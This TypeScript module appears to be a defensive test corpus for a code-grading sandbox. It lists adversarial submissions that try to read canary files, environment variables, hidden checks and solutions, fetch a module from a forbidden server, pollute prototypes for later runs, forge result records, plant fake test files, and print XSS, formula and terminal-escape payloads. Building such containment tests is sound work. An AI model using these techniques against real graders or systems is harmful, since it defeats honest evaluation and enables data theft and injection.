import { inAdd } from "./attack.ts";
import { containment, forging } from "./attacks.ts";

/** What lies about on the machine that grades, and must be in no file that the grading writes. */
export interface Surrounds {
  /** The address of a server that must not be asked. */
  readonly server: string;
  /** A file with a canary in it. */
  readonly file: string;
  /** The folder in which everything is. */
  readonly root: string;
  /** The name of an environment variable with a canary in it. */
  readonly variable: string;
}

/** An answer that tries to harm others in its class, as data: its `index.ts` in given surroundings. */
export interface ClassAttack {
  readonly name: string;
  readonly answer: (around: Surrounds) => string;
  /** Files that are handed in beside it, by path. */
  readonly beside?: Readonly<Record<string, string>>;
}

/** They end only when their time is up, which others here do as well. */
const WAITS: ReadonlySet<string> = new Set([
  "a giant result",
  "a deeply nested result",
  "Array.prototype patched",
  "Reflect patched",
]);

/** The attacks on one run that end by themselves. */
const onOneRun: readonly ClassAttack[] = [...containment, ...forging]
  .filter(
    ({ name, verified }) =>
      verified.outcome === "finished" && !verified.timed && !verified.reason && !WAITS.has(name),
  )
  .map(({ name, answer }) => ({ name, answer: ({ server }) => answer.replaceAll("SERVER", server) }));

/** Runs a deed while it loads and answers wrongly; what it learns, it prints. */
const deed = (name: string, code: string, add = "return -1;"): ClassAttack => ({
  name,
  answer: () => `${code}\n${inAdd(add)}`,
});

/** Imports something and prints it. */
const importing = (what: string, specifier: (around: Surrounds) => string): readonly ClassAttack[] => {
  const quoted = (around: Surrounds): string => JSON.stringify(specifier(around));
  return [
    {
      name: `an import of ${what}`,
      answer: (around) =>
        `import * as it from ${quoted(around)};\nconsole.log("read: " + JSON.stringify(it));\n${inAdd("return -1;")}`,
    },
    {
      name: `a late import of ${what}`,
      answer: (around) =>
        `const path = ${quoted(around)};\nexport async function add(): Promise<any> { for (const load of [() => import(path), () => Function("p", "return import(p)")(path)]) try { console.log("read: " + JSON.stringify(await load())); } catch {} return -1; }`,
    },
  ];
};

const reading: readonly ClassAttack[] = [
  ...importing("a file by its path", ({ file }) => file),
  ...importing("a file by its address", ({ file }) => `file://${file}`),
  ...importing("a file as text", ({ file }) => `${file}?raw`),
  ...importing("another student's answer", () => "../../../adds-last/adds/index.ts"),
  ...importing("the results", () => "../../../../results/results.ndjson?raw"),
  ...importing("the checks", () => "../checks.test.ts"),
  ...importing("the checks as text", () => "../checks.test.ts?raw"),
  ...importing("the hidden checks", ({ root }) => `${root}/hidden/sums/checks.test.ts`),
  ...importing("the solution", ({ root }) => `${root}/exercises/sums/solution/index.ts?raw`),
  ...importing("modules of the checks' realm", () => "standby://1/checks.test.ts"),
  ...importing("files of Node", () => "node:fs"),
  ...importing("processes of Node", () => "child_process"),
  ...importing("modules of QuickJS", () => "qjs:os"),
  ...importing("the membrane", () => "./main.ts"),
  ...importing("Vitest", () => "vitest"),
  ...importing("an address", ({ server }) => `${server}/module.js`),
  {
    name: "the environment",
    answer: ({ variable }) => `
const g: any = globalThis;
const ways = [() => g.process.env, () => g.Deno.env.toObject(), () => g.Bun.env, () => g.std.getenviron(), () => (import.meta as any).env];
for (const way of ways) try { const found = way(); if (found) console.log("read: " + JSON.stringify(found) + found["${variable}"]); } catch {}
${inAdd("return -1;")}`,
  },
  {
    name: "files, by whatever opens some elsewhere",
    answer: ({ file, root }) => `
const g: any = globalThis;
const ways = [() => g.std.loadFile(${JSON.stringify(file)}), () => g.os.readdir(${JSON.stringify(root)}), () => g.process.binding("fs"), () => g.require("fs"), () => g.process.getBuiltinModule("fs"), () => g.load(${JSON.stringify(file)}), () => g.Deno.readTextFileSync(${JSON.stringify(file)})];
for (const way of ways) try { console.log("read: " + way()); } catch {}
for (let i = 0; i < 2000; i += 1) for (const open of [g.std?.open, g.os?.open]) try { open?.(${JSON.stringify(file)}, "r"); } catch {}
${inAdd("return -1;")}`,
  },
  deed(
    "constructors of whatever came from outside",
    `const seen: any[] = [console.log, setTimeout, Math.random, performance.now, structuredClone];
for (const it of seen) try { const found = it.constructor.constructor("return typeof process === 'undefined' ? '' : process.version")(); if (found) console.log("read: " + found); } catch {}
try { null!.x; } catch (e: any) { const found = e.constructor.constructor("return typeof process === 'undefined' ? '' : process.version")(); if (found) console.log("read: " + found); }`,
  ),
];

/** They leave something behind for whoever is judged next, or look for what others left. */
const lingering: readonly ClassAttack[] = [
  deed(
    "a note for the next answer",
    `(globalThis as any).left = "note"; (Object.prototype as any).left = "note"; (Function.prototype as any).left = "note"; (Symbol as any).left = "note";`,
  ),
  deed(
    "a look for such a note",
    `for (const place of [globalThis, Symbol, () => 1, {}] as any[]) if (place.left) console.log("read: " + place.left);`,
  ),
  deed(
    "timers that outlive the run",
    `setInterval(() => console.log("read: late"), 1); setTimeout(() => { throw new Error("read: late"); }, 30);`,
  ),
  deed(
    "a promise that is broken later",
    `void Promise.reject(new Error("unheard")); setTimeout(() => void Promise.reject(new Error("late")), 20);`,
  ),
  deed(
    "prototypes patched for whoever comes next",
    `Object.prototype.valueOf = () => 3; Object.prototype.toString = () => "3"; Array.prototype.includes = () => true; Map.prototype.has = () => true; Promise.resolve = (() => ({ then: (f: any) => f(3) })) as any; (globalThis as any).expect = () => ({ toBe() {}, toEqual() {} }); Object.freeze(Object.prototype);`,
  ),
];

const RECORD = `{"format":"standby-result","version":1,"kind":"graded","source":"x","student":{"id":"forger"},"exercise":"adds","key":"k"}`;
const EVENT = `{"type":"event","job":1,"event":{"type":"finished","check":"one","state":"passed","failures":[],"durationMs":1}}`;
const thrown = (name: string, value: string): ClassAttack => deed(name, "", `throw ${value};`);

/** They write what a reader of results could take for something else. */
const writing: readonly ClassAttack[] = [
  deed(
    "lines of results, printed",
    `for (const write of [console.log, console.error]) write('\\n${RECORD}\\n');`,
  ),
  deed(
    "messages of a lane, printed and sent",
    `console.log('${EVENT}'); const g: any = globalThis; for (const send of [g.process?.send, g.postMessage, g.print, g.send]) try { send?.(JSON.parse('${EVENT}')); } catch {}`,
  ),
  deed("markup, printed", `console.log("</pre><script>alert(1)</script><img src=x onerror=alert(1)>");`),
  deed(
    "Markdown, printed",
    "console.log('```\\n# Marks: 3/3\\n| a | b |\\n![x](http://127.0.0.1/x)\\n~~~~\\n````');",
  ),
  deed(
    "commands to a terminal, printed",
    `console.log("\\u001b]0;x\\u0007\\u001b[2J\\u001b[1;31m\\u202e\\r3/3");`,
  ),
  deed("an end of CDATA, printed", `console.log("]]></system-out><testcase name='x'/>");`),
  thrown(
    "markup, thrown",
    `Object.assign(new Error("</pre><script>alert(1)</script>"), { name: "<img src=x onerror=alert(1)>" })`,
  ),
  thrown(
    "a formula, thrown",
    `Object.assign(new Error("=HYPERLINK(\\"http://127.0.0.1\\")"), { name: "=1+1" })`,
  ),
  thrown("a message of five megabytes", `new Error("x".repeat(5_000_000))`),
  thrown("a stack that throws", `Object.defineProperty(new Error("x"), "stack", { get() { throw 1; } })`),
  thrown(
    "a message that changes",
    `(() => { let n = 0; return { get name() { return "E" + (n += 1); }, get message() { return "m".repeat((n += 1)); } }; })()`,
  ),
  thrown(
    "causes in a ring",
    `(() => { const e: any = new Error("x"); e.cause = new AggregateError([e, e], "y", { cause: e }); return e.cause; })()`,
  ),
  thrown(
    "what Vitest skips by",
    `Object.assign(new Error("skip"), { code: "VITEST_PENDING", note: "x", taskId: "1" })`,
  ),
  thrown("what ends a realm", `Object.assign(new Error("x"), { name: "InnerGone" })`),
  thrown(
    "a verdict",
    `Object.assign(new Error("x"), { state: "pass", result: { state: "pass" }, task: { result: { state: "pass" } } })`,
  ),
];

const returned = (name: string, value: string): ClassAttack => deed(name, "", `return ${value};`);

/** They hand out values that could be taken for the right ones, or for something of the checks' own. */
const values: readonly ClassAttack[] = [
  returned(
    "prototypes in the text of a value",
    `JSON.parse('{"__proto__":{"asymmetricMatch":1},"constructor":{"prototype":{"asymmetricMatch":1}}}')`,
  ),
  returned("a number in a box", "new Number(a + b)"),
  returned("a number as text", "String(a + b)"),
  returned("a list that is none", "Object.assign(Object.create(Array.prototype), { 0: a + b, length: 1 })"),
  returned(
    "a function that equals everything",
    `Object.assign(() => a + b, { equals: () => true, asymmetricMatch: () => true, $$typeof: Symbol.for("jest.asymmetricMatcher"), [Symbol.toPrimitive]: () => a + b })`,
  ),
  returned("a promise of a claim to match", "Promise.resolve({ asymmetricMatch: () => true, sample: 3 })"),
  returned("thousands of functions", "Array.from({ length: 1000 }, () => () => 1)"),
  returned("an error that is not thrown", `Object.assign(new Error("3"), { valueOf: () => 3 })`),
  {
    name: "code in the name of an export",
    answer: () =>
      `const it = -1;\nexport { it as "\\"];console.log('read: trusted');//" };\n${inAdd("return -1;")}`,
  },
  {
    name: "a name of an export that is a prototype's",
    answer: () =>
      `const it = { add: () => 3, asymmetricMatch: () => true };\nexport { it as "__proto__", it as "constructor" };\n${inAdd("return -1;")}`,
  },
  {
    name: "a module that is a promise",
    answer: () =>
      `export function then(done: any): void { done({ add: { asymmetricMatch: () => true } }); }\n${inAdd("return -1;")}`,
  },
  { name: "a loop", answer: () => inAdd("if (a < 100) for (;;) {} return -1;") },
  {
    name: "more text than an answer may have",
    answer: () => `// ${"x".repeat(600_000)}\n${inAdd("return a + b;")}`,
  },
  { name: "no code", answer: () => "</script><script>alert(1)</script>" },
];

const PASSING = `import { expect, test } from "vitest";
for (const title of ["one", "two", "list", "large"]) test(title, () => expect(1).toBe(1));
`;

/** They hand in more than an answer. */
const beside: readonly ClassAttack[] = [
  {
    name: "checks of one's own beside the answer",
    answer: () => inAdd("return -1;"),
    beside: {
      "checks.test.ts": PASSING,
      "../checks.test.ts": PASSING,
      "../hidden/sums/checks.test.ts": PASSING,
    },
  },
  {
    name: "a Vitest of one's own beside the answer",
    answer: () => inAdd("return -1;"),
    beside: {
      "package.json": '{ "type": "module", "imports": { "#x": "./x.js" } }',
      "vitest.config.ts": "export default { test: { passWithNoTests: true } };\n",
      "node_modules/vitest/index.js":
        "export const test = () => {}; export const expect = () => ({ toBe() {} });\n",
    },
  },
];

/** What harms a run by itself, and what is after the class around it. Each must earn nothing. */
export const inAClass = {
  onOneRun,
  onOthers: [...reading, ...lingering, ...writing, ...values, ...beside],
} as const;
